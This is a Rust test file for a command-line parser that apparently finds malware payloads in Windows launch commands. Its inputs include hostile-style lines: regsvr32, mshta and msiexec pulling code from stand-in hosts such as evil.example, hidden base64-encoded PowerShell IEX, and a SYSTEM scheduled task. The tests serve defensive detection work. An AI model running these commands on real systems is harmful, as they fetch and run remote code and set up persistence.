//! Each rule of the parser, through [`parse`].

use super::*;
use crate::runtime::snapshot::UserProfile;

fn bob() -> UserProfile {
    crate::detect::builder::profile("bob", "S-1-5-21-1-2-3-1001")
}

/// Parse as bob, with no working folder and no file known.
fn p(cmd: &str) -> Parsed {
    let u = bob();
    let env = Env::for_user(Some(&u));
    parse(cmd, &ParseCtx::new(&env))
}

/// Parse as bob in working folder `cwd` on a host holding `files`.
fn on_host(cmd: &str, cwd: Option<&str>, files: &[&str]) -> Parsed {
    let u = bob();
    let env = Env::for_user(Some(&u));
    let exists = |s: &str| files.iter().any(|f| f.eq_ignore_ascii_case(s));
    parse(
        cmd,
        &ParseCtx {
            cwd,
            exists: &exists,
            ..ParseCtx::new(&env)
        },
    )
}

#[test]
fn argv_rules() {
    assert_eq!(split_args(r#"a "b c" d"#), vec!["a", "b c", "d"]);
    assert_eq!(split_args(r#""a\"b" c\\"#), vec!["a\"b", "c\\\\"]);
    assert_eq!(split_args(r#"a\\\\"b c" d"#), vec!["a\\\\b c", "d"]);
    assert_eq!(split_args(r#""he said ""hi""""#), vec!["he said \"hi\""]);
    assert_eq!(
        split_args(r#""C:\x y\a.dll",Export arg"#),
        vec!["C:\\x y\\a.dll,Export", "arg"]
    );
    assert_eq!(split_args("  "), Vec::<String>::new());
}

#[test]
fn rundll32_forms() {
    let x = p(
        r#"C:\Windows\system32\rundll32.exe "C:\Users\bob\AppData\Local\Ckninfw\ialkq.czi",Control_RunDLL"#,
    );
    assert_eq!(x.launcher, Some(Launcher::Rundll32));
    assert_eq!(x.payloads.len(), 1);
    assert_eq!(
        x.payloads[0].path,
        "C:\\Users\\bob\\AppData\\Local\\Ckninfw\\ialkq.czi"
    );
    assert_eq!(x.payloads[0].export.as_deref(), Some("Control_RunDLL"));

    let x = p(r"rundll32 %LOCALAPPDATA%\Aibevs\jbcss.nfg,DUabvWmG");
    assert_eq!(x.program, "C:\\Windows\\System32\\rundll32.exe");
    assert_eq!(
        x.payloads[0].path,
        "C:\\Users\\bob\\AppData\\Local\\Aibevs\\jbcss.nfg"
    );
    assert_eq!(x.payloads[0].export.as_deref(), Some("DUabvWmG"));

    let x = p("RUNDLL32.EXE user32.dll, UpdatePerUserSystemParameters");
    assert_eq!(x.payloads[0].path, "C:\\Windows\\System32\\user32.dll");
    assert!(x.payloads[0].searched);
    assert_eq!(
        x.payloads[0].export.as_deref(),
        Some("UpdatePerUserSystemParameters")
    );

    let x = p(
        r#"rundll32.exe "C:\Users\bob\AppData\Local\Azad\qahaumsp.dll",update /i:"BrightBike\license.dat""#,
    );
    assert_eq!(x.payloads[0].export.as_deref(), Some("update"));
    assert_eq!(x.payloads[0].args, vec!["/i:BrightBike\\license.dat"]);
    // IcedID's relative data file: under the account's %APPDATA% first.
    assert_eq!(
        x.payloads[0].data[0].candidates[0],
        r"C:\Users\bob\AppData\Roaming\BrightBike\license.dat"
    );

    let x = p(
        r#"rundll32.exe "C:\Users\bob\AppData\Local\{3B3CEF60-AFC9-5F9B-3CED-DE6BE81FCDCE}\dauzjo4\miatomdo2.dll",#1 --uyocas="C:\Users\bob\x\jhghjdfghdfgh""#,
    );
    assert_eq!(x.payloads[0].export.as_deref(), Some("#1"));
    assert_eq!(
        x.payloads[0].args,
        vec!["--uyocas=C:\\Users\\bob\\x\\jhghjdfghdfgh"]
    );
    assert_eq!(
        x.payloads[0].data[0].candidates,
        vec![r"C:\Users\bob\x\jhghjdfghdfgh"]
    );

    let x = p("rundll32.exe -sta {C53E07EC-25F3-4093-AA39-FC67EA22E99D}");
    assert!(x.payloads.is_empty());
    let x = p(r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)"#);
    assert!(x.inline_code && x.payloads.is_empty(), "{x:?}");
}

#[test]
fn rundll32_unquoted_dll_with_blanks_runs_to_the_comma() {
    // Lenovo's entry: rundll32 takes everything up to the comma.
    let cmd = r"C:\Windows\system32\rundll32.exe C:\Program Files\Lenovo\Spectrum\Spectrum_Core.dll,RunDLL";
    let x = p(cmd);
    assert_eq!(
        x.payloads[0].path,
        r"C:\Program Files\Lenovo\Spectrum\Spectrum_Core.dll"
    );
    assert_eq!(x.payloads[0].export.as_deref(), Some("RunDLL"));
    // The same when the snapshot shows the DLL.
    let x = on_host(
        cmd,
        None,
        &[r"C:\Program Files\Lenovo\Spectrum\Spectrum_Core.dll"],
    );
    assert_eq!(
        x.payloads[0].path,
        r"C:\Program Files\Lenovo\Spectrum\Spectrum_Core.dll"
    );
    // A blank separates the entry point when the word before it is the DLL.
    let x = p(r"rundll32.exe shell32.dll Control_RunDLL desk.cpl,,0");
    assert_eq!(x.payloads[0].path, r"C:\Windows\System32\shell32.dll");
    assert_eq!(x.payloads[0].export.as_deref(), Some("Control_RunDLL"));
    assert_eq!(x.payloads[0].args, vec!["desk.cpl,,0"]);
    // Both readings possible: the one the host has wins.
    let cmd = r"rundll32 C:\Tools\a.dll Start x,y";
    assert_eq!(p(cmd).payloads[0].path, r"C:\Tools\a.dll");
    let x = on_host(cmd, None, &[r"C:\Tools\a.dll Start x"]);
    assert_eq!(x.payloads[0].path, r"C:\Tools\a.dll Start x");
}

#[test]
fn regsvr32_forms() {
    let x = p(
        r#"regsvr32.exe -s "C:\Users\bob\AppData\Roaming\Microsoft\Bbbetedog\naqhixfsvwhmw.dll""#,
    );
    assert_eq!(
        x.payloads[0].path,
        "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Bbbetedog\\naqhixfsvwhmw.dll"
    );
    let x = p(r"regsvr32 /s /i: C:\ProgramData\12842.jpg");
    assert_eq!(x.payloads[0].path, "C:\\ProgramData\\12842.jpg");
    let x = p(r"regsvr32 /s /n /u /i:http://evil/x.sct scrobj.dll");
    assert_eq!(x.payloads[0].path, "http://evil/x.sct");
    let x = p(r"C:\Windows\SysWOW64\regsvr32.exe /s C:\Users\Public\abc.dll");
    assert_eq!(x.launcher, Some(Launcher::Regsvr32));
    assert_eq!(x.payloads[0].path, "C:\\Users\\Public\\abc.dll");
    // A relative scriptlet is the working folder's.
    let x = on_host(
        r"regsvr32 /s /n /i:payload.sct scrobj.dll",
        Some(r"C:\Users\bob\AppData\Local\Temp"),
        &[],
    );
    assert_eq!(
        x.payloads[0].path,
        r"C:\Users\bob\AppData\Local\Temp\payload.sct"
    );
    // Two DLLs in one command.
    let x = p(r"regsvr32 /s C:\ProgramData\a.dll C:\ProgramData\b.dll");
    assert_eq!(x.payloads.len(), 2);
}

#[test]
fn unquoted_program_paths_as_createprocess_finds_them() {
    let x = p(r"C:\Program Files\Zoom\bin\installer.exe /repair");
    assert_eq!(x.program, "C:\\Program Files\\Zoom\\bin\\installer.exe");
    assert_eq!(x.args, vec!["/repair"]);
    // The shortest prefix that exists wins.
    let x = on_host(
        r"C:\Program Files\My App\run now.exe",
        None,
        &[r"C:\Program Files\My App\run"],
    );
    assert_eq!(x.program, "C:\\Program Files\\My App\\run");
    // `.exe` appended to a prefix without extension: C:\Program.exe runs.
    let x = on_host(
        r"C:\Program Files\Lenovo\Vantage\svc.exe /run",
        None,
        &[
            r"C:\Program.exe",
            r"C:\Program Files\Lenovo\Vantage\svc.exe",
        ],
    );
    assert_eq!(x.program, r"C:\Program.exe");
    assert_eq!(x.payloads[0].path, r"C:\Program.exe");
    let x = p(r#""C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe"  /background"#);
    assert_eq!(
        x.program,
        "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
    );
    assert_eq!(x.args, vec!["/background"]);
    assert_eq!(x.payloads[0].via, Launcher::Direct);
}

#[test]
fn relative_paths_as_getfullpathname_resolves_them() {
    use super::resolve::full_path;
    let wd = Some(r"C:\Users\bob\AppData\Roaming\Tools");
    assert_eq!(
        full_path(r"C:x\a.exe", wd),
        r"C:\Users\bob\AppData\Roaming\Tools\x\a.exe"
    );
    assert_eq!(full_path(r"D:x\a.exe", wd), r"D:\x\a.exe");
    assert_eq!(full_path(r"\Temp\a.exe", wd), r"C:\Temp\a.exe");
    assert_eq!(
        full_path(r"..\a.exe", wd),
        r"C:\Users\bob\AppData\Roaming\a.exe"
    );
    assert_eq!(full_path(r"a.exe", None), "a.exe");
    // A dot segment cannot pass a user folder off as Program Files.
    assert_eq!(
        full_path(r"C:\Program Files\..\Users\Public\x.dll", None),
        r"C:\Users\Public\x.dll"
    );
    assert_eq!(full_path(r"C:\..\..\x.dll", None), r"C:\x.dll");
    // Through the parser: a task's relative program and drive-relative DLL.
    let x = on_host(r"rundll32.exe C:lib\helper.dll,Run", wd, &[]);
    assert_eq!(
        x.payloads[0].path,
        r"C:\Users\bob\AppData\Roaming\Tools\lib\helper.dll"
    );
}

#[test]
fn cmd_chains_and_quote_rule() {
    let x = p(r#"cmd.exe /c "C:\Users\bob\AppData\Roaming\Comboboot7559513311\launcher.bat""#);
    assert_eq!(x.payloads.len(), 1);
    assert_eq!(
        x.payloads[0].path,
        "C:\\Users\\bob\\AppData\\Roaming\\Comboboot7559513311\\launcher.bat"
    );
    let x = p(
        r"cmd /q /c ping.exe -n 6 127.0.0.1 & type C:\Windows\System32\calc.exe > C:\Users\bob\Desktop\x.exe",
    );
    assert!(x.payloads.is_empty(), "{:?}", x.payloads);
    assert_eq!(x.children.len(), 2);
    let x = p(r#"cmd /c start "" /min wscript.exe //B //E:vbscript "%TEMP%\abc.vbs" arg"#);
    assert_eq!(
        x.payloads[0].path,
        "C:\\Users\\bob\\AppData\\Local\\Temp\\abc.vbs"
    );
    assert_eq!(x.payloads[0].via, Launcher::ScriptHost);
    // First and last quote removed: the inner quotes stay the program's.
    let x = p(r#"cmd /c ""C:\Users\bob\App Data\x.bat" arg""#);
    assert_eq!(x.payloads[0].path, r"C:\Users\bob\App Data\x.bat");
    // Carets and a leading @ are cmd's, not the program's.
    let x = p(r"cmd.exe /c @p^ower^shell -f C:\ProgramData\a.ps1");
    assert_eq!(x.payloads[0].path, r"C:\ProgramData\a.ps1");
    assert_eq!(x.payloads[0].via, Launcher::PowerShell);
    // /c glued to its body.
    let x = p(r"cmd /cC:\Users\Public\x.bat");
    assert_eq!(x.payloads[0].path, r"C:\Users\Public\x.bat");
}

#[test]
fn powershell_parameters_and_encoded_code() {
    let x = p(
        r"powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File C:\ProgramData\x.ps1 -a C:\ProgramData\d.bin",
    );
    assert_eq!(x.payloads[0].path, "C:\\ProgramData\\x.ps1");
    assert_eq!(
        x.payloads[0].data[0].candidates,
        vec![r"C:\ProgramData\d.bin"]
    );
    // Prefixes and / as the parameter mark.
    let x = p(r"powershell /ex bypass /f C:\ProgramData\y.ps1");
    assert_eq!(x.payloads[0].path, "C:\\ProgramData\\y.ps1");
    // -File relative to -WorkingDirectory.
    let x = p(r"pwsh -wd C:\Users\bob\Scripts -File run.ps1");
    assert_eq!(x.payloads[0].path, r"C:\Users\bob\Scripts\run.ps1");
    // pwsh's positional argument is a file; powershell.exe's is code.
    let x = on_host(r"pwsh.exe a.ps1", Some(r"C:\ProgramData\Q"), &[]);
    assert_eq!(x.payloads[0].path, r"C:\ProgramData\Q\a.ps1");
    let x = p(r"powershell.exe Write-Host hi");
    assert!(x.inline_code && x.payloads.is_empty() && x.code == "Write-Host hi");
    // -EncodedCommand is decoded (UTF-16LE base64 of "IEX (gp HKCU:\Software\Qx).v").
    let code = "IEX (gp HKCU:\\Software\\Qx).v";
    let utf16: Vec<u8> = code.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, utf16);
    for flag in ["-enc", "-e", "-EncodedCommand", "-ec", "/en"] {
        let x = p(&format!("powershell -nop -w hidden {flag} {b64}"));
        assert!(x.inline_code, "{flag}");
        assert_eq!(x.code, code, "{flag}");
    }
    // -Command running a script by path.
    let x = p(r#"powershell -c "& 'C:\Users\bob\AppData\Roaming\x.ps1'""#);
    assert_eq!(x.payloads[0].path, r"C:\Users\bob\AppData\Roaming\x.ps1");
}

#[test]
fn script_hosts_mshta_msiexec_and_nested() {
    let x = on_host(
        r"wscript.exe //B //Nologo stage.js a",
        Some(r"C:\Users\Public"),
        &[],
    );
    assert_eq!(x.payloads[0].path, r"C:\Users\Public\stage.js");
    let x = p(r"mshta vbscript:Execute(1)");
    assert!(x.inline_code);
    let x = p(r"mshta.exe https://evil.example/a.hta");
    assert_eq!(x.payloads[0].path, "https://evil.example/a.hta");
    let x = p(r#"mshta.exe "C:\Users\bob\Downloads\inv 22.hta""#);
    assert_eq!(x.payloads[0].path, r"C:\Users\bob\Downloads\inv 22.hta");
    let x = p(r"msiexec.exe /q /i http://evil.example/x.msi");
    assert_eq!(x.payloads[0].path, "http://evil.example/x.msi");
    let x = p(r"msiexec /y C:\Users\Public\reg.dll");
    assert_eq!(x.payloads[0].path, r"C:\Users\Public\reg.dll");
    let x = p(r"msiexec /x {12345678-1234-1234-1234-123456789012} /qn");
    assert!(x.payloads.is_empty());
    let x = p(r"msiexec /fvomus C:\ProgramData\p.msi");
    assert_eq!(x.payloads[0].path, r"C:\ProgramData\p.msi");
    let x = p(
        r#"schtasks.exe /Create /RU "NT AUTHORITY\SYSTEM" /tn ayttpnzc /tr "regsvr32.exe -s \"C:\Users\bob\Desktop\761\a.dll\"" /SC ONCE /Z"#,
    );
    assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\Desktop\\761\\a.dll");
    let x = p(r"conhost.exe --headless rundll32 C:\ProgramData\512.png,Wind");
    assert_eq!(x.payloads[0].path, "C:\\ProgramData\\512.png");
}

#[test]
fn env_cwd_and_renamed_programs() {
    let e = Env::for_user(Some(&bob()));
    assert_eq!(
        e.expand("%appdata%\\x %UNKNOWN% 100%"),
        "C:\\Users\\bob\\AppData\\Roaming\\x %UNKNOWN% 100%"
    );
    let x = on_host("launcher.bat", Some("%APPDATA%\\Comboboot7559513311"), &[]);
    assert_eq!(
        x.payloads[0].path,
        "C:\\Users\\bob\\AppData\\Roaming\\Comboboot7559513311\\launcher.bat"
    );
    // A bare system binary is never the payload; its copy elsewhere is.
    assert!(p("ctfmon.exe").payloads.is_empty());
    let x = p(r"C:\Users\bob\AppData\Roaming\svchost.exe -k x");
    assert_eq!(
        x.payloads[0].path,
        r"C:\Users\bob\AppData\Roaming\svchost.exe"
    );
    // A renamed rundll32 is read as rundll32.
    let u = bob();
    let env = Env::for_user(Some(&u));
    let orig = |s: &str| s.ends_with("upd.exe").then(|| "RUNDLL32.EXE".to_string());
    let x = parse(
        r"C:\Users\bob\AppData\Local\Temp\upd.exe C:\Users\bob\AppData\Local\Temp\k.bin,Start",
        &ParseCtx {
            original_name: &orig,
            ..ParseCtx::new(&env)
        },
    );
    assert_eq!(x.launcher, Some(Launcher::Rundll32));
    assert_eq!(x.original_name.as_deref(), Some("rundll32.exe"));
    assert_eq!(x.payloads[0].path, r"C:\Users\bob\AppData\Local\Temp\k.bin");
}
